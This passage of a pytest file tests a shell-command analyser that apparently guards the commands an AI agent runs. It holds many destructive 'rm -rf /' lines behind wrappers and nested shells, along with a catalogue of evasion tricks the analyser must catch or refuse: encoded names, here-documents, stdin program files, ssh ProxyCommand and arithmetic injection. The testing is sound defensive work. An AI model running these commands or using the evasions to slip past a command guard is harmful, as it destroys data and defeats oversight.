    refused("{ echo a }")


# --------------------------------------------------------------------------------------------------
# Redirections and here-documents
# --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "redirect"),
    [
        ("ls > /etc/passwd", Redirect(">", "/etc/passwd", True)),
        ("ls >> log", Redirect(">>", "log", True)),
        ("ls >| log", Redirect(">|", "log", True)),
        ("ls &> log", Redirect("&>", "log", True)),
        ("ls &>> log", Redirect("&>>", "log", True)),
        ("ls 2> err", Redirect("2>", "err", True)),
        ("ls <> f", Redirect("<>", "f", True)),
        ("ls < f", Redirect("<", "f", False)),
        ("ls 2>&1", Redirect("2>&", "1", False)),
        ("ls >&2", Redirect(">&", "2", False)),
        ("ls >&-", Redirect(">&", "-", False)),
        ("ls >& file", Redirect(">&", "file", True)),
        ("ls 3<&0", Redirect("3<&", "0", False)),
        ("ls {fd}> file", Redirect("{fd}>", "file", True)),
        ("cat <<< 'hi there'", Redirect("<<<", "hi there", False, "hi there")),
        ("cat <<EOF\nline $x\nEOF", Redirect("<<", "EOF", False, "line $x\n")),
        ("cat <<-EOF\n\tindented\n\tEOF", Redirect("<<-", "EOF", False, "indented\n")),
        ("ls > $dir/out", Redirect(">", "$dir/out", True)),
    ],
)
def test_redirections(command: str, redirect: Redirect) -> None:
    (inv,) = analyse(command).invocations
    assert inv.redirects == (redirect,)


def test_redirection_only_command_is_visible() -> None:
    (inv,) = analyse("> /etc/passwd").invocations
    assert (inv.program, inv.name) == ("", "")
    assert inv.redirects == (Redirect(">", "/etc/passwd", True),)
    assert analyse("x=1").invocations == ()


def test_redirections_of_compound_commands_apply_to_their_programs() -> None:
    invs = analyse("{ echo a; echo b; } > /etc/x").invocations
    assert [i.redirects for i in invs] == [(Redirect(">", "/etc/x", True),)] * 2
    invs = analyse("while read l; do echo $l; done < in > out").invocations
    assert all(Redirect(">", "out", True) in i.redirects for i in invs)
    invs = analyse("sudo tee /etc/x > /dev/null").invocations
    assert [i.name for i in invs] == ["sudo", "tee"]
    assert all(i.redirects == (Redirect(">", "/dev/null", True),) for i in invs)


def test_here_documents() -> None:
    assert names("cat <<A <<B\n$(a)\nA\n$(b)\nB") == ["a", "b", "cat"]
    assert names("cat <<'A' <<B\n$(a)\nA\n$(b)\nB") == ["b", "cat"]
    assert names("cat <<EOF &&\nbody\nEOF\nls") == ["cat", "ls"]
    assert names("echo $(cat <<EOF\nx\nEOF\n)") == ["cat", "echo"]
    refused("cat <<EOF\nno end", "not terminated")
    refused("cat <<EOF", "no body")
    refused("cat <<$x\nbody\n$x", "literal")
    # a here-document fed to a POSIX shell is parsed as its program; to anything else it is data
    assert calls("python3 - <<'EOF'\nimport os\nEOF") == [("python3", "-", None)]
    assert ("ls", "", "sh stdin") in calls("bash -s <<EOF\nls\nEOF")
    refused("bash <<EOF\nrm $(echo -rf) /\nEOF", "expansions")


# --------------------------------------------------------------------------------------------------
# Wrappers, shells, interpreters
# --------------------------------------------------------------------------------------------------


def test_wrapper_chains_report_every_program() -> None:
    assert calls("sudo -u root env FOO=1 nice -n 5 timeout -s KILL 3 nohup rm -rf /") == [
        ("sudo", "-u root env FOO=1 nice -n 5 timeout -s KILL 3 nohup rm -rf /", None),
        ("env", "FOO=1 nice -n 5 timeout -s KILL 3 nohup rm -rf /", "sudo"),
        ("nice", "-n 5 timeout -s KILL 3 nohup rm -rf /", "env"),
        ("timeout", "-s KILL 3 nohup rm -rf /", "nice"),
        ("nohup", "rm -rf /", "timeout"),
        ("rm", "-rf /", "nohup"),
    ]
    nice = analyse("env FOO=1 BAR=2 nice ls").invocations
    assert nice[1].assignments == ("FOO=1", "BAR=2")


@pytest.mark.parametrize(
    "command",
    [
        "sudo -iu root rm -rf /",
        "sudo -u root -- rm -rf /",
        "sudo --user=root --preserve-env=A rm -rf /",
        "env -i rm -rf /",
        "env -u X -- rm -rf /",
        "env - rm -rf /",
        "env --chdir=/ rm -rf /",
        "nice -n5 rm -rf /",
        "nice --adj=5 rm -rf /",
        "timeout --signal=KILL 5s rm -rf /",
        "timeout -k 1 5 rm -rf /",
        "xargs -0 -n1 rm -rf",
        "xargs -a list rm -rf",
        "exec rm -rf /",
        "command -p rm -rf /",
        "time -p rm -rf /",
        "ionice -c 2 -n 7 rm -rf /",
        "taskset -c 0 rm -rf /",
        "chrt -f 10 rm -rf /",
        "- rm -rf /",
        "nocorrect rm -rf /",
        "unbuffer rm -rf /",
        "fakeroot -- rm -rf /",
        "unshare rm -rf /",
        "unshare -r -m --mount-proc --propagation private rm -rf /",
        "nsenter -t 1 -a rm -rf /",
        "nsenter -t1 -m/proc/1/ns/mnt rm -rf /",
        "setpriv --reuid=1000 --clear-groups rm -rf /",
        "strace -f -o /dev/null rm -rf /",
        "ltrace -o /dev/null rm -rf /",
        "prlimit --nofile=64 rm -rf /",
        "ssh-agent rm -rf /",
        "eatmydata rm -rf /",
        "linux64 -R rm -rf /",
        "numactl -l rm -rf /",
        "strace -o /dev/null -f --seccomp-bpf rm -rf /",  # a flag
        "strace -o /dev/null --verbose all rm -rf /",  # takes a value
    ],
)
def test_wrapper_options(command: str) -> None:
    assert "rm" in names(command)


@pytest.mark.parametrize(
    "command",
    ["command -v rm", "sudo -l rm", "sudo -e /etc/hosts < /dev/null", "ionice -p 1", "timeout --help", "env --version"],
)
def test_wrapper_modes_that_run_nothing(command: str) -> None:
    assert len(analyse(command).invocations) == 1


def test_xargs_defaults_to_echo_and_hides_input_from_code() -> None:
    assert calls("xargs") == [("xargs", "", None), ("echo", "", "xargs")]
    assert calls("xargs -n1 sh -c 'rm \"$0\"'")[-1] == ("rm", "$0", "sh -c")
    refused("xargs -I CMD CMD -rf /", "find or xargs")


@pytest.mark.parametrize(
    "command",
    [
        "bash -lc 'rm -rf /'",
        "bash -o pipefail -c 'rm -rf /'",
        "bash -O extglob -c 'rm -rf /'",
        "bash --norc --noprofile -c 'rm -rf /'",
        "bash -x -e -c 'rm -rf /'",
        "bash -c -- 'rm -rf /'",
        "dash -c 'rm -rf /'",
        "zsh -c 'rm -rf /'",
        "ksh -c 'rm -rf /'",
        "/bin/sh -c 'rm -rf /' name arg",
        "bash5.2 -c 'rm -rf /'",
    ],
)
def test_shell_bodies_are_parsed(command: str) -> None:
    assert ("rm", "-rf /", "sh -c") in calls(command)


def test_shell_nesting_is_bounded() -> None:
    command = "rm -rf /"
    for _ in range(MAX_SHELL_DEPTH):
        command = "sh -c " + shlex.quote(command)
    assert ("rm", "-rf /", "sh -c") in calls(command)
    refused("sh -c " + shlex.quote(command), "shells deep")
    command = "rm -rf /"
    for _ in range(MAX_SHELL_DEPTH + 1):
        command = "eval " + shlex.quote(command)
    refused(command, "shells deep")


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("python3 -c 'import os; os.system(\"rm -rf /\")'", [("python3", '-c import os; os.system("rm -rf /")', None)]),
        ("python3.11 -m http.server", [("python3.11", "-m http.server", None)]),
        ("python3 script.py < data", [("python3", "script.py", None)]),
        ("curl x | python3 script.py", [("curl", "x", None), ("python3", "script.py", "pipeline")]),
        ("perl -ne 'print if /x/' f", [("perl", "-ne print if /x/ f", None)]),
        ("node -e 'process.exit(0)'", [("node", "-e process.exit(0)", None)]),
        ("ruby -e 'puts 1'", [("ruby", "-e puts 1", None)]),
        ("awk 'BEGIN{system(\"rm -rf /\")}'", [("awk", 'BEGIN{system("rm -rf /")}', None)]),
        ("bash deploy.sh", [("bash", "deploy.sh", None)]),
        ("bash -s < script.sh", [("bash", "-s", None)]),
        ("python3 --version", [("python3", "--version", None)]),
        ("python3 -Wignore -u script.py", [("python3", "-Wignore -u script.py", None)]),
        ("perl -Ilib -I lib x.pl", [("perl", "-Ilib -I lib x.pl", None)]),
        ("psql -c 'select 1' mydb", [("psql", "-c select 1 mydb", None)]),
        ("sqlite3 db 'select 1'", [("sqlite3", "db select 1", None)]),
    ],
)
def test_interpreters_are_reported_with_their_code(command: str, expected: list[tuple[str, str, str | None]]) -> None:
    assert calls(command) == expected


def test_ssh_and_transports() -> None:
    assert calls("ssh -N -L 1:a:2 host") == [("ssh", "-N -L 1:a:2 host", None)]
    assert calls("rsync -avz -e 'ssh -p 2222' src host:dst") == [
        ("rsync", "-avz -e ssh -p 2222 src host:dst", None),
        ("ssh", "-p 2222", "rsync -e"),
    ]
    assert calls("ssh -n host") == [("ssh", "-n host", None)]
    # the far end of `rsync -e ssh`: its -e is protocol flags, not a command
    assert calls("rsync --server -logDtpre.iLsfxCIvu . /srv/drop") == [
        ("rsync", "--server -logDtpre.iLsfxCIvu . /srv/drop", None)
    ]
    assert calls("rsync --server --sender -re.iLsfxC . /srv")[1:] == []
    # ... but only there: not in daemon mode, nor with --server anywhere but first
    assert "evil" in names("rsync --server --daemon -e evil .")
    assert "evil" in names("rsync --server --config=x -e evil .")
    assert "evil" in names("rsync -e evil --server . /d")
    assert calls("scp -S rm a host:b")[-1] == ("rm", "", "scp -S")
    assert ("cat", "", "ssh") in calls("ssh host cat < local.txt")
    assert names("git -c color.ui=never log") == ["git"]
    assert names("tar xzf a.tar") == ["tar"]


# --------------------------------------------------------------------------------------------------
# Interactive lines
# --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    # history expansion, zsh without INTERACTIVE_COMMENTS, programs driven by keystrokes
    ["!!", "!-1", "!rm", "echo !$", 'echo "a!b"', "^ls^rm", "ls # note", "# x; rm", "less f", "top | less"],
)
def test_interactive_only_refusals(command: str) -> None:
    analyse(command)  # an exec command string: no history, comments are comments, no terminal
    refused(command, interactive=True)


def test_keystroke_programs() -> None:
    refused("vim x", "session's input")  # exec: vim reads ex commands from the session's input
    analyse("vim -es x < /dev/null")
    refused("vim -es x < /dev/null", interactive=True)
    analyse("script -c ls /dev/null")
    refused("script", "session's input")


def test_interactive_allows_ordinary_lines() -> None:
    for command in ["ls -la", "echo 'a!b'", 'echo "done!"', "[ ! -f x ] && echo a != b", "# just a note", "echo \\!x"]:
        analyse(command, interactive=True)


# --------------------------------------------------------------------------------------------------
# Syntax errors and limits
# --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "echo 'unterminated",
        'echo "unterminated',
        "echo `unterminated",
        "echo $(unterminated",
        "echo ${unterminated",
        "echo $((1+2)",
        "(ls",
        "ls)",
        "{ ls",
        "if true; then ls",
        "for x in a; do ls",
        "case x in a) ls",
        "ls |",
        "ls &&",
        "| ls",
        "; ls",
        ";;",
        "ls ;; ls",
        "ls (",
        "[[ -f x",
        "ls >",
        "f() ls",
        "a=(1 2 3)",
        "echo $'\\0'",
        "echo $'a\\x00b'",
        "time -v ls",
        "echo ${}",
        "echo ${x[y]}",
        "echo ${ rm; }",
        "echo ${(e)x}",
        "echo =(ls)",
    ],
)
def test_syntax_errors_are_refused(command: str) -> None:
    refused(command)


@pytest.mark.parametrize(
    ("command", "interactive"),
    [
        ("ls |", False),
        ("ls &&", False),
        ("if true; then ls", False),
        ("for x in a b; do", False),
        ("case x in", False),
        ("{ ls;", False),
        ("(ls", False),
        ("echo 'abc", False),
        ('echo "abc', False),
        ("echo $(ls", False),
        ("echo `ls", False),
        ("echo ${x", False),
        ("cat <<EOF", False),
        ("cat <<EOF\nbody", False),
        ("r\\\n", True),
        ("ls -la \\\n", True),
    ],
)
def test_incomplete_input_is_told_apart(command: str, interactive: bool) -> None:
    with pytest.raises(ShellIncompleteError):
        analyse(command, interactive=interactive)


def test_complete_but_invalid_input_is_not_incomplete() -> None:
    for command in ["ls)", "fi", ";;", "echo $'\\0'", "sh -c 'echo \"x'", "=rm"]:
        with pytest.raises(ShellParseError) as info:
            analyse(command)
        assert not isinstance(info.value, ShellIncompleteError), command
    # an interactive line that ends in a continuation must wait for the next line: alone, `r` then
    # `m -rf /` look harmless, joined they are `rm -rf /`
    assert calls("ls\\\n") == [("ls", "", None)]
    assert calls("r\\\nm -rf /", interactive=True) == [("rm", "-rf /", None)]


def test_limits() -> None:
    refused("ls\x00rm", "NUL")
    refused("echo " + "a" * MAX_COMMAND_BYTES, "longer than")
    refused("echo " + "é" * (MAX_COMMAND_BYTES // 2), "longer than")
    analyse("echo " + "a" * (MAX_COMMAND_BYTES - 10))
    refused("echo " + "$(" * 200 + "ls" + ")" * 200, "nested too deeply")
    refused("echo " + "(" * 200, None)
    refused(b"ls")  # type: ignore[arg-type]


ADVERSARIAL_SIZES = {
    "many commands": "ls -la /tmp; " * 5000,
    "long pipeline": "cat x | " * 8000 + "wc",
    "many words": "echo " + "a " * 30000,
    "long quoted word": "echo '" + "a b" * 20000 + "'",
    "glob word": "echo " + "[" * 60000,
    "brace word": "echo " + "{a," * 20000,
    "many expansions": "echo " + "$x" * 30000,
    "long here-document": "cat <<EOF\n" + "line $x\n" * 7000 + "EOF\n",
    "many find primaries": "find . " + "-name x " * 8000,
    "many redirections": "ls " + "> /tmp/x " * 7000,
    "nested parameter words": "echo " + "${x:-" * 20 + "y" + "}" * 20,
    "nested backquotes": "echo " + "`echo \\`echo \\\\\\`ls\\\\\\`\\``" * 1000,
}


@pytest.mark.parametrize("name", list(ADVERSARIAL_SIZES))
def test_large_inputs_finish_quickly(name: str) -> None:
    command = ADVERSARIAL_SIZES[name][: MAX_COMMAND_BYTES - 1]
    start = time.monotonic()
    try:
        analyse(command)
    except ShellParseError:
        pass
    # Generous bound: this guards against super-linear blow-ups, it is not a benchmark.
    assert time.monotonic() - start < 10


# --------------------------------------------------------------------------------------------------
# Fuzzing: any text either analyses or raises ShellParseError, quickly
# --------------------------------------------------------------------------------------------------

SHELL_TOKENS = [
    *"abcxyz019 \t\n;&|<>()'\"\\$`{}[]*?!#=~-+/%:,.@^",
    "$(",
    "${",
    "$((",
    "$[",
    "$'\\x72'",
    '$"',
    "<<",
    "<<-",
    "<<<",
    "EOF",
    "\nEOF\n",
    "<(",
    ">(",
    "&>",
    "|&",
    ";;",
    "if ",
    "then ",
    "else ",
    "fi",
    "do ",
    "done",
    "for ",
    "in ",
    "case ",
    "esac",
    "while ",
    "function ",
    "{ ",
    "; }",
    "[[ ",
    " ]]",
    "(( ",
    "))",
    "coproc ",
    "time ",
    "select ",
    "sh -c ",
    "bash ",
    "eval ",
    "xargs ",
    "find . -exec ",
    " {} \\;",
    "sudo ",
    "env ",
    "timeout 5 ",
    "ssh h ",
    "declare -i ",
    "read ",
    "x=",
    "rm -rf /",
]


def check_fuzz_input(text: str, interactive: bool) -> None:
    start = time.monotonic()
    try:
        result = analyse(text, interactive=interactive)
    except ShellParseError:
        pass
    else:
        for inv in result.invocations:
            assert inv.argv_text == " ".join(inv.args)
            assert inv.name == inv.program.rstrip("/").rsplit("/", 1)[-1]
    assert time.monotonic() - start < 2


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(SHELL_TOKENS), max_size=60).map("".join), st.booleans())
def test_fuzz_shell_like_text(text: str, interactive: bool) -> None:
    check_fuzz_input(text, interactive)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200), st.booleans())
def test_fuzz_arbitrary_text(text: str, interactive: bool) -> None:
    check_fuzz_input(text, interactive)


# --------------------------------------------------------------------------------------------------
# Differential tests: what bash and dash really run must be among the reported programs
# --------------------------------------------------------------------------------------------------

STUBS = ("evil", "mark")
REAL_TOOLS = ("cat", "tee", "env", "nohup", "timeout", "nice", "xargs", "find", "true", "false")
SANDBOX_PREFIX = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--inh-caps=-all"]


class Sandbox:
    """A directory where every program on PATH is a stub that logs its name, run as nobody."""

    def __init__(self, root: Path) -> None:
        self.bin = root / "bin"
        self.work = root / "work"
        self.runs = itertools.count()
        self.bin.mkdir()
        self.work.mkdir()
        root.chmod(0o755)
        self.work.chmod(0o777)
        for stub in STUBS:
            path = self.bin / stub
            path.write_text('#!/bin/sh\nprintf "%s\\n" "${0##*/}" >> "$STUBLOG"\n')
            path.chmod(0o755)
        for tool in REAL_TOOLS:
            real = shutil.which(tool)
            assert real is not None
            (self.bin / tool).symlink_to(real)
        (self.bin / "bash").symlink_to(shutil.which("bash") or "/bin/bash")
        (self.bin / "sh").symlink_to(shutil.which("dash") or shutil.which("bash") or "/bin/sh")

    def run(self, shell: str, command: str) -> set[str]:
        """Run ``command``; return the names of the stubs it started (each run logs to its own file)."""
        log = self.work / f"log{next(self.runs)}"
        prefix = SANDBOX_PREFIX if os.geteuid() == 0 else []
        argv = [*prefix, "env", "-i", f"PATH={self.bin}", f"HOME={self.work}", f"STUBLOG={log}", shell, "-c", command]
        proc = subprocess.Popen(
            argv,
            cwd=self.work,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        deadline = time.monotonic() + 10
        # WNOWAIT keeps the exited leader as a zombie, so its process group id cannot be reused before
        # we kill whatever the command left running in the background.
        while os.waitid(os.P_PID, proc.pid, os.WEXITED | os.WNOHANG | os.WNOWAIT) is None:
            assert time.monotonic() < deadline, f"{shell} did not finish: {command!r}"
            time.sleep(0.005)
        # What the command started asynchronously (a process substitution inside a pipeline, which
        # `wait` cannot wait for) may still be starting: give the group a moment to finish by itself.
        settle = time.monotonic() + 2
        while _group_running(proc.pid) and time.monotonic() < settle:
            time.sleep(0.005)
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()
        return set(log.read_text().split()) if log.exists() else set()


def _group_running(pgid: int) -> bool:
    """Whether a live (not zombie) process other than the leader is in process group ``pgid``."""
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == pgid:
            continue
        try:
            stat = (entry / "stat").read_text()
        except OSError:
            continue
        fields = stat[stat.rindex(")") + 2 :].split()  # state, ppid, pgrp, ...
        if int(fields[2]) == pgid and fields[0] != "Z":
            return True
    return False


def _sandbox_available() -> bool:
    if shutil.which("bash") is None or any(shutil.which(t) is None for t in REAL_TOOLS):
        return False
    return os.geteuid() != 0 or shutil.which("setpriv") is not None


needs_sandbox = pytest.mark.skipif(not _sandbox_available(), reason="bash, coreutils or setpriv missing")


@pytest.fixture(scope="module")
def sandbox() -> Iterator[Sandbox]:
    root = Path(tempfile.mkdtemp(prefix="lictor-shell-"))
    try:
        yield Sandbox(root)
    finally:
        shutil.rmtree(root, ignore_errors=True)


def evil_forms() -> st.SearchStrategy[str]:
    return st.sampled_from(
        ["evil", '"evil"', "'evil'", "\\evil", "e''vil", 'e"v"il', "$'\\x65vil'", "$'\\145vil'", "ev\\\nil", "mark"]
    )


ARGS = ["a", "'a b'", '"$HOME"', "-x", "$v", "'x;y'", "\\;", "'#'", "{a,b}", "'$(evil)'", '"\\$(evil)"', "\\`evil\\`"]


def simple_commands() -> st.SearchStrategy[str]:
    simple = st.builds(
        lambda name, args: " ".join([name, *args]), evil_forms(), st.lists(st.sampled_from(ARGS), max_size=2)
    )
    wrapped = st.builds(
        lambda wrapper, cmd: wrapper + cmd,
        st.sampled_from(
            [
                "",
                "env ",
                "env A=1 ",
                "nohup ",
                "timeout 5 ",
                "nice ",
                "nice -n 1 ",
                "command ",
                "time ",
                "echo x | xargs ",
                "echo x | xargs -I{} ",
                "exec ",
            ]
        ),
        simple,
    )
    find_args = st.lists(st.sampled_from([a for a in ARGS if a != "\\;"]), max_size=2)
    in_find = st.builds(
        lambda name, args: " ".join(["find . -maxdepth 0 -exec", name, *args, "\\;"]), evil_forms(), find_args
    )
    backquoted = st.sampled_from(["evil", "'evil' a", '"ev"il', "mark", "echo \\`evil\\`"]).map(lambda c: f"echo `{c}`")
    return st.one_of(wrapped, in_find, backquoted)


def compose(inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    pairs = st.tuples(inner, inner)
    return st.one_of(
        st.tuples(inner, st.sampled_from([" ; ", " && ", " || ", " | ", "\n", " & "]), inner).map("".join),
        inner.map(lambda c: f"( {c} )"),
        inner.map(lambda c: f"{{ {c}; }}"),
        inner.map(lambda c: f"echo $( {c} )"),
        inner.map(lambda c: f'echo "$( {c} )"'),
        inner.map(lambda c: f"cat <( {c} )"),
        inner.map(lambda c: f"x=$( {c} )"),
        inner.map(lambda c: f"[[ -n $( {c} ) ]]"),
        inner.map(lambda c: f"{{ ! {c}; }}"),
        pairs.map(lambda t: f"if mark; then {t[0]}; else {t[1]}; fi"),
        inner.map(lambda c: f"while {c}; do break; done"),
        inner.map(lambda c: f"for i in 1 2; do {c}; done"),
        inner.map(lambda c: f"case x in x) {c};; esac"),
        inner.map(lambda c: f"f() {{ {c}; }}; f"),
        inner.map(lambda c: f"sh -c {shlex.quote(c)}"),
        inner.map(lambda c: f"bash -c {shlex.quote(c)}"),
        inner.map(lambda c: f"eval {shlex.quote(c)}"),
        inner.map(lambda c: f"trap {shlex.quote(c)} EXIT"),
    )


def programs() -> st.SearchStrategy[str]:
    body = st.recursive(simple_commands(), compose, max_leaves=6)
    with_heredoc = st.tuples(body, body).map(
        lambda t: st.sampled_from(
            [
                f"{t[0]}\nbash <<'EOF'\n{t[1]}\nEOF",
                f"{t[0]}\ncat <<EOF\n$( {t[1]} )\nEOF",
                f"{t[0]}\nbash <<< {shlex.quote(t[1])}",
            ]
        )
    )
    return st.one_of(body, with_heredoc.flatmap(lambda s: s)).map(lambda c: c + "\nwait")


@needs_sandbox
@pytest.mark.parametrize("shell", ["bash", "dash"])
@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(command=programs())
def test_differential_everything_run_is_reported(sandbox: Sandbox, shell: str, command: str) -> None:
    reported = set(analyse(command).names)  # the generated forms are all analysable
    path = shutil.which(shell)
    if path is None:
        pytest.skip(f"{shell} is not installed")
    ran = sandbox.run(path, command)
    assert ran <= reported, f"{shell} ran {sorted(ran - reported)} which the analysis did not report"


KNOWN_RUNS = [
    ("ls; evil", {"evil"}),
    ("true && evil -rf /", {"evil"}),
    ("true $(evil -rf /)", {"evil"}),
    ("true `evil -rf /`", {"evil"}),
    ("bash -c 'evil -rf /'", {"evil"}),
    ("sh -c 'true; evil -rf /'", {"evil"}),
    ("find . -maxdepth 0 -exec evil -rf {} \\;", {"evil"}),
    ("echo / | xargs evil -rf", {"evil"}),
    ("env evil -rf /", {"evil"}),
    ("e\\vil -rf /", {"evil"}),
    ("'e'vil -rf /", {"evil"}),
    ('"evil" -rf /', {"evil"}),
    ("$'\\x65\\x76\\x69\\x6c' -rf /", {"evil"}),
    ("cat <(evil -rf /)", {"evil"}),
    ("{ evil -rf /; }", {"evil"}),
    ("(evil -rf /)", {"evil"}),
    ("timeout 5 evil -rf /", {"evil"}),
    ("nohup evil -rf / &\nwait", {"evil"}),
    ('eval "evil -rf /"', {"evil"}),
    ("eval -- evil", {"evil"}),
    ("mark\nbash <<'EOF'\nevil\nEOF", {"mark", "evil"}),
    ("cat <<EOF\n$(evil)\nEOF", {"evil"}),
    ("f() { evil; }; f", {"evil"}),
    ("trap evil EXIT", {"evil"}),
    ("echo a | tee >(evil) >/dev/null; wait", {"evil"}),
]


@needs_sandbox
@pytest.mark.parametrize(("command", "expected"), KNOWN_RUNS, ids=[c for c, _ in KNOWN_RUNS])
def test_differential_known_evasions(sandbox: Sandbox, command: str, expected: set[str]) -> None:
    bash = shutil.which("bash")
    assert bash is not None
    ran = sandbox.run(bash, command)
    assert ran == expected  # the sandbox really runs them ...
    assert ran <= set(analyse(command).names)  # ... and the analysis reports them


@needs_sandbox
def test_dash_ends_a_dollar_quote_at_an_escaped_quote_where_bash_does_not(sandbox: Sandbox) -> None:
    dash = shutil.which("dash")
    assert dash is not None, "dash is part of every Debian system"
    command = "true $'\\'\nevil -rf /\n'"
    assert sandbox.run(dash, command) == {"evil"}  # the second line is a command to dash ...
    assert "evil" not in sandbox.run(shutil.which("bash") or "bash", command)  # ... and text to bash
    refused(command, "read differently by bash")  # so the analysis refuses it


@pytest.mark.parametrize(
    "command",
    [
        "sh /dev/stdi?",
        "sh /dev/[s]tdin",
        "sh /dev/std${x}in",
        "sh /proc/$$/fd/0",
        "bash /dev/std{in,out}",
        ". /proc/$PPID/fd/0",
        "python3 /proc/$$/fd/0",
        "zsh /dev/std?n",
    ],
)
def test_a_program_file_known_only_at_run_time_may_be_the_session(command: str) -> None:
    # The script could be /dev/stdin once expanded: the program would come from the agent, unseen.
    refused(command, "would read its program from the session's input")


@pytest.mark.parametrize(
    "command",
    [
        "psql -f -",
        "psql --file=-",
        "psql -f-",
        "psql -X -f /dev/stdin",
        "psql -f $f",
        "php -f -",
        "R --file=/dev/stdin",
    ],
)
def test_a_program_file_named_by_an_option_may_be_the_session(command: str) -> None:
    # `psql -f -` read its program (with `\! rm ...`) from the agent's input, unseen: only the operand was checked.
    refused(command, "would read its program from the session's input")


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("make -f -", "would read its program from the session's input"),
        ("make -f- all", "would read its program from the session's input"),
        ("make --file=/dev/stdin", "would read its program from the session's input"),
        ("make --eval='x:;rm y' x", "make --eval runs make code"),
        ("cmake -P /dev/stdin", "would read its program from the session's input"),
        ("cmake -P -", "would read its program from the session's input"),
        ("m4", "would read its program from the session's input"),
        ("m4 -D a=b", "would read its program from the session's input"),
        ("m4 -", "would read its program from the session's input"),
        ("ip netns exec ns rm -rf /srv", "runs the command given after it"),
        ("ip -n x netns exec ns rm", "runs the command given after it"),
        ("ip vrf exec blue rm x", "runs the command given after it"),
        ("ip -batch -", "from a file"),
        ("gosu nobody rm x", "runs a program named in its arguments"),
        ("su-exec nobody rm x", "runs a program named in its arguments"),
        ("systemd-nspawn -D / rm x", "runs a program named in its arguments"),
        ("lxc-attach -n c -- rm x", "runs a program named in its arguments"),
        ("capsh -- -c 'rm x'", "runs a program named in its arguments"),
        ("mpirun rm x", "runs a program named in its arguments"),
    ],
)
def test_programs_that_run_other_programs_or_read_a_program_are_refused(command: str, why: str) -> None:
    # Each ran a program (or make recipes, m4 syscmd) that no rule saw: only the first program was reported.
    refused(command, why)


@pytest.mark.parametrize("command", ["make", "make -C dir all", "make -f Makefile", "m4 x.m4", "m4 -D a=b x.m4",
                                     "m4 < x.m4", "cmake -P x.cmake", "cmake --build .", "ip addr show", "ip -br a", "ip netns list", "ip -s link"])  # fmt: skip
def test_make_m4_and_ip_with_their_input_in_files_are_left_to_the_rules(command: str) -> None:
    assert [inv.name for inv in analyse(command).invocations] == [command.split()[0]]


@pytest.mark.parametrize("command", ["psql -f q.sql", "psql --file=q.sql", "psql -f - < q.sql", "php -f x.php"])
def test_a_program_file_named_by_an_option_is_left_to_the_rules(command: str) -> None:
    assert [inv.name for inv in analyse(command).invocations] == [command.split()[0]]


@pytest.mark.parametrize(
    "command",
    [
        "awk '{print $1}' f",
        "awk '/a|b/ {n++} END {print n}' < f",
        "awk 'BEGIN{system(\"date\")}'",  # reads no input: the command is in the program text
        "ls | awk '{print a || b}'",
        "sed -n '/error/p' log",
        "sed -i.bak 's/e/E/g; y/abc/xyz/' f",
        "ls | sed 's/x/y/w out'",
        "sed '$!N;P;D' f",
    ],
)
def test_awk_and_sed_that_run_nothing_from_their_input_are_left_to_the_rules(command: str) -> None:
    assert analyse(command).invocations


def test_a_transport_s_proxy_command_is_analysed_without_a_destination() -> None:
    # rsync adds the host after its -e command: ssh's -o options run all the same
    assert "evil" in names("rsync -e 'ssh -oProxyCommand=\"evil; true\"' /etc/hostname h:/tmp/x")
    assert "evil" in names("rsync --rsh='ssh -o LocalCommand=evil -o PermitLocalCommand=yes' a h:b")


def test_lines_of_one_shell_share_what_they_assign() -> None:
    from lictor.shell import ShellState

    state = ShellState()
    assert analyse("echo ${x:='a[$(evil)]'}", line=True, state=state).names == ("echo",)
    with pytest.raises(ShellParseError, match="arithmetic uses x"):
        analyse("echo $((x))", line=True, state=state)  # evil would run here
    analyse("n=5", line=True, state=state)
    assert analyse("echo $((n + 1))", line=True, state=state).names == ("echo",)  # a number stays a number
    state = ShellState()
    analyse("declare -i count", line=True, state=state)
    with pytest.raises(ShellParseError, match="arithmetic"):
        analyse("count='a[$(evil)]'", line=True, state=state)  # evaluated as arithmetic on assignment
    state = ShellState()
    analyse("source ./env.sh", line=True, state=state)
    with pytest.raises(ShellParseError, match="arithmetic uses y"):
        analyse("echo $((y))", line=True, state=state)  # the file may have set anything
    assert analyse("echo $((x))").names == ("echo",)  # without a state, one line is all there is
    # A function (or trap) defined before the value is set runs the arithmetic later: the line that sets
    # it is refused, as it would be with all of them on one line.
    for first, then in (
        ("f() { echo $((x)); }", "echo ${x:='a[$(evil)]'}"),
        ("trap 'echo $((x))' EXIT", "x='a[$(evil)]'"),
        ('f() { find . -maxdepth 0 "$x" evil \\; ; }', "x=-exec"),
    ):
        state = ShellState()
        analyse(first, line=True, state=state)
        with pytest.raises(ShellParseError):
            analyse(then, line=True, state=state)


@needs_sandbox
@pytest.mark.parametrize("shell", ["bash", "dash"])
def test_both_shells_end_a_dollar_quote_at_the_quote_after_backslash_c(sandbox: Sandbox, shell: str) -> None:
    command = "true $'\\c'; evil; true ' \\'"
    assert "evil" in sandbox.run(shutil.which(shell) or shell, command)
    refused(command, re.escape("\\c followed by a quote"))


@needs_sandbox
def test_dash_runs_the_lines_after_a_command_substitution_that_opened_a_here_document(sandbox: Sandbox) -> None:
    command = "true $(cat <<E)\nevil\nE"
    assert "evil" in sandbox.run(shutil.which("dash") or "dash", command)
    refused(command, re.escape("here-document opened inside $(...)"))


def test_a_program_file_named_exactly_is_left_to_the_rules() -> None:
    assert names("sh ./deploy.sh") == ["sh"]
    assert names("python3 tools/report.py --all") == ["python3"]
    assert names("bash deploy-$ENV.sh </dev/null") == ["bash"]  # the input is known: nothing else to read


@pytest.mark.parametrize(
    ("arg", "plain"),
    [
        ("///*", "/*"),
        ("/.//*", "/*"),
        ("/*/", "/*"),
